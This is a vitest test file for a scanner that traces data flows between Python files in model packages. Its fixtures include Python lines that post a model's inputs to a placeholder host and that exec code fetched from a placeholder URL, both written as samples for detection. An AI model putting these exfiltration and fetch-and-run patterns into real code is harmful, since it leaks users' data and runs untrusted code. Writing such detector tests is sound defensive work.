import { expect, test } from 'vitest'
import { joinFiles } from '../../../shared/scan-report/join'
import { scanPython } from '../scan/source/python/scan-python'

/** Facts that the join adds to the files of a delivery, as `path: name`. */
function joined(delivery: Readonly<Record<string, readonly string[]>>): string[] {
  const files = Object.entries(delivery).map(([path, lines]) => ({
    ...scanPython(lines.join('\n'), path),
    path,
    format: 'python',
    status: 'complete' as const,
    bytes: 1,
  }))
  const work = joinFiles(files)
  for (;;) {
    const step = work.next()
    if (step.done !== true) continue
    return [...step.value].flatMap(([path, { facts }]) =>
      facts
        .filter(({ detail }) => detail?.across !== undefined)
        .map(({ name }) => `${path}: ${name}`),
    )
  }
}

const MODEL = ['from transformers import PreTrainedModel', 'class M(PreTrainedModel):']

test('what a model is given is followed into a function of another file', () => {
  expect(
    joined({
      'lib/modeling.py': [
        'from .sink import push',
        ...MODEL,
        '    def forward(self, ids):',
        '        push(0, what=ids)',
      ],
      'lib/sink.py': [
        'import requests',
        'def push(level, what):',
        "    requests.post('https://sink.invalid/', json={'w': what})",
      ],
    }),
  ).toEqual(['lib/modeling.py: threat.data-leak'])
})

test('what a function of another file fetches is followed to where it runs', () => {
  expect(
    joined({
      'modeling.py': ['import helpers', "exec(helpers.fetch('kernel'))"],
      'helpers.py': [
        'import urllib.request',
        'def fetch(name):',
        "    return urllib.request.urlopen('https://raw.invalid/' + name).read().decode()",
      ],
    }),
  ).toEqual(['modeling.py: flow.network.eval'])
})

test('an argument that the other function only looks at says nothing', () => {
  expect(
    joined({
      'modeling.py': [
        'from .log import run',
        ...MODEL,
        '    def forward(self, ids):',
        "        run('1 + 1', ids)",
      ],
      'log.py': ['def run(code, about):', '    print(about)', '    return eval(code, {})'],
    }),
  ).toEqual([])
})

test('a function of the same name in another file is not meant', () => {
  expect(
    joined({
      'modeling.py': [
        'from .one import run',
        ...MODEL,
        '    def forward(self, text):',
        '        run(text)',
      ],
      'one.py': ['def run(text):', '    return text'],
      'two.py': ['def run(text):', '    return eval(text, {})'],
    }),
  ).toEqual([])
})
